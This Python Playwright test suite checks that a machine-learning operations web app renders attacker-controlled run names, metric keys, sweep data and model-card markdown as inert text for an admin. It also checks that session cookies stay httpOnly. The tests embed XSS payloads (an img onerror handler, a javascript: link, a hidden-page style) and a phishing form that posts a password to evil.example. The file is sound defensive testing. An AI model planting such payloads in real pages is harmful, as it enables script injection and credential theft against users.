"""Stored XSS into an Admin's browser: a Developer's run names, an old metric key with markup (written before
keys were checked, put straight into the database) and a sweep whose metric is markup are shown to an Admin —
on the page and in the chart tooltips (ECharts sets those as innerHTML) — and nothing runs. The refresh token
is nowhere a script can read it, and the Content-Security-Policy raises no violation on these pages."""

from __future__ import annotations

import json
import re
import uuid

import psycopg
from playwright.sync_api import Page, expect

from axops.core.db import libpq_url
from tests.browser import ui_login
from tests.factories import (
    ADMIN_PASSWORD,
    dir_files,
    log_batch,
    make_account,
    new_run,
    register_model,
    upload_model,
)

PAYLOAD = '<img src=x onerror="window.__xss=1">'


def _hover_until_tooltip(page: Page, chart, columns: list[float]) -> str:
    """Sweep the mouse over a chart (at these fractions of its width, top to bottom) until ECharts shows a
    tooltip; returns the tooltip's HTML."""
    box = chart.bounding_box()
    assert box, "the chart is not on screen"
    tooltip = chart.locator("div[style*='z-index: 9999999']")
    for fx in columns:
        for y in range(int(box["y"]) + 8, int(box["y"] + box["height"]) - 8, 3):
            page.mouse.move(box["x"] + box["width"] * fx, y)
            if tooltip.count() and tooltip.first.is_visible() and tooltip.first.inner_text().strip():
                return tooltip.first.inner_html()
    raise AssertionError("no tooltip appeared over the chart")


def _assert_nothing_ran(page: Page) -> None:
    page.wait_for_timeout(300)  # an onerror handler would have fired by now
    assert page.evaluate("window.__xss") is None
    assert page.locator("img[src='x']").count() == 0


def test_markup_in_names_is_shown_as_text_in_an_admins_browser(api, admin, browser_page, database_url):
    h = make_account(api, admin, "xss-dev", new_team="xss-team").headers
    run_ids = []
    for i, name in enumerate((PAYLOAD, f"{PAYLOAD} 2")):
        run = new_run(api, h, experiment="xss-exp", name=name, params={"lr": str(0.001 * (i + 1))})
        assert run["name"] == name  # run names are free text: the UI must treat them as text
        assert (
            log_batch(
                api, h, run["id"], [{"key": "loss", "value": 2.0 - s / 10 - i / 5, "step": s} for s in range(10)]
            ).status_code
            == 200
        )
        run_ids.append(run["id"])
    # a metric key with markup, as stored before keys were checked (the API now refuses it)
    with psycopg.connect(libpq_url(database_url), autocommit=True) as conn:
        for s in range(5):
            conn.execute(
                "INSERT INTO run_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, %s, %s, 0)",
                (run_ids[0], PAYLOAD, 1.0 - s / 10, s),
            )
        conn.execute(
            "INSERT INTO run_latest_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, 0.6, 4, 0)",
            (run_ids[0], PAYLOAD),
        )

    page = browser_page
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    ui_login(page, "admin", ADMIN_PASSWORD)

    # the refresh token is in no storage a script can read, and not in document.cookie (httpOnly)
    storage = page.evaluate(
        "JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])"
    )
    assert "refresh" not in storage.lower(), storage
    cookies = {c["name"]: c for c in page.context.cookies()}
    assert cookies["axops_refresh"]["httpOnly"] and cookies["axops_refresh"]["sameSite"] == "Strict"
    # a reload resumes the session through the cookie (the access token lived in memory only)
    page.reload()
    expect(page.get_by_test_id("nav-home")).to_be_visible()

    # the compare page: run names as chart series (tooltip) and as chips
    page.goto(f"/experiments/compare?runs={','.join(run_ids)}")
    chart = page.get_by_test_id("compare-chart-loss")
    expect(chart.locator("canvas")).to_be_visible()
    html = _hover_until_tooltip(page, chart, [0.5])
    assert "&lt;img" in html and "<img" not in html
    expect(chart.locator("div[style*='z-index: 9999999']").first).to_contain_text(PAYLOAD)
    expect(page.get_by_text(PAYLOAD, exact=True).first).to_be_visible()
    _assert_nothing_ran(page)

    # the run page: the name in the heading, the legacy metric key as a chart title and in its tooltip
    page.goto(f"/experiments/runs/{run_ids[0]}")
    expect(page.get_by_test_id("run-name")).to_have_text(PAYLOAD)
    charts = page.locator("[data-testid^='run-chart-']")
    expect(charts).to_have_count(2)
    legacy = charts.filter(has_text=PAYLOAD)
    expect(legacy.locator("canvas")).to_be_visible()
    html = _hover_until_tooltip(page, legacy, [0.5, 0.3, 0.7])
    assert "&lt;img" in html and "<img" not in html
    _assert_nothing_ran(page)

    # a sweep whose metric is markup (the API now refuses one; the answer is stubbed as old data would read)
    sweep_id, jobs = str(uuid.uuid4()), [str(uuid.uuid4()), str(uuid.uuid4())]
    sweep = {
        "id": sweep_id,
        "name": "legacy sweep",
        "strategy": "grid",
        "metric": PAYLOAD,
        "mode": "min",
        "space": {"hyperparameters.learning_rate": {"values": [0.001, 0.01]}},
        "status": "succeeded",
        "trials": [
            {
                "job_id": jobs[0],
                "run_id": run_ids[0],
                "status": "succeeded",
                "params": {"hyperparameters.learning_rate": 0.001},
                "value": 0.5,
            },
            {
                "job_id": jobs[1],
                "run_id": run_ids[1],
                "status": "succeeded",
                "params": {"hyperparameters.learning_rate": 0.01},
                "value": 0.25,
            },
        ],
        "best_job_id": jobs[1],
        "best_value": 0.25,
        "created_at": "2026-01-01T00:00:00Z",
    }
    page.route(
        re.compile(rf".*/api/training/sweep/{sweep_id}$"),
        lambda route: route.fulfill(status=200, content_type="application/json", body=json.dumps(sweep)),
    )
    page.goto(f"/training/sweeps/{sweep_id}")
    chart = page.get_by_test_id("sweep-chart")
    expect(chart.locator("canvas")).to_be_visible()
    # hover the best trial's point: found on the canvas by its colour (PALETTE[1], #2e9d6a)
    x, y = chart.locator("canvas").first.evaluate("""(canvas) => {
        const { data, width } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
        for (let i = 0; i < data.length; i += 4) {
          if (Math.abs(data[i] - 0x2e) < 8 && Math.abs(data[i + 1] - 0x9d) < 8 && Math.abs(data[i + 2] - 0x6a) < 8) {
            const r = canvas.getBoundingClientRect(), scale = canvas.width / r.width
            return [r.left + (i / 4 % width) / scale, r.top + Math.floor(i / 4 / width) / scale + 3]
          }
        }
        return null
    }""")
    page.mouse.move(x, y)
    tooltip = chart.locator("div[style*='z-index: 9999999']").first
    expect(tooltip).to_be_visible()
    html = tooltip.inner_html()
    assert "&lt;img" in html and "<img" not in html
    expect(chart.locator("div[style*='z-index: 9999999']").first).to_contain_text(PAYLOAD)
    _assert_nothing_ran(page)

    assert violations == []


def test_api_docs_page_runs_under_its_policy(browser_page):
    """The docs page's inline script matches the hash in its CSP (whether Swagger UI's CDN is reachable or not)."""
    page = browser_page
    messages: list[str] = []
    page.on("console", lambda m: messages.append(m.text))
    page.on("pageerror", lambda e: messages.append(str(e)))
    page.goto("/api/docs")
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)
    assert not [m for m in messages if "Content Security Policy" in m], messages
    # the inline script ran: it either built Swagger UI or found its CDN bundle missing (offline)
    assert page.locator("#swagger-ui .swagger-ui").count() or any("SwaggerUIBundle" in m for m in messages), messages


def test_model_card_renders_only_markdown(api, admin, browser_page, demo_dirs):
    dev = make_account(api, admin, "card-dev", new_team="card-team").headers
    model = register_model(api, dev, "card-model", description=f"desc {PAYLOAD}")
    r = upload_model(api, dev, model["id"], dir_files(demo_dirs[0]))
    assert r.status_code == 201, r.text
    parts = [
        "# Card title",
        "<style>body { display: none !important }</style>",
        '<form action="https://evil.example/steal" data-testid="phish"><input name="password"><button>Sign in again</button></form>',
        PAYLOAD,
        '<iframe src="https://evil.example"></iframe>',
        "[docs](javascript:window.__xss=1) [site](https://example.com)",
        '<p style="position:fixed;inset:0;background:red" id="overlay">covered</p>',
    ]
    card = "\n\n".join(parts)
    assert (
        api.put(f"/api/model/version/{r.json()['id']}/card", json={"card_markdown": card}, headers=dev).status_code
        == 200
    )

    page = browser_page
    ui_login(page, "admin", ADMIN_PASSWORD)
    page.goto(f"/models/{model['id']}")
    rendered = page.get_by_test_id("model-card").locator(".markdown")
    expect(rendered).to_contain_text("Card title")
    expect(rendered).to_contain_text("covered")
    for selector in ("style", "form", "input", "button", "iframe", "img[src]", "[onerror]", "[style]", "[id]"):
        assert rendered.locator(selector).count() == 0, selector
    expect(page.get_by_test_id("nav-home")).to_be_visible()  # the page was not hidden by the card's styles
    site = rendered.get_by_role("link", name="site")
    assert site.get_attribute("rel") == "noopener noreferrer" and site.get_attribute("target") == "_blank"
    expect(rendered).to_contain_text("docs")
    assert rendered.locator("a[href*='javascript' i]").count() == 0
    expect(page.get_by_text(f"desc {PAYLOAD}").first).to_be_visible()
    _assert_nothing_ran(page)
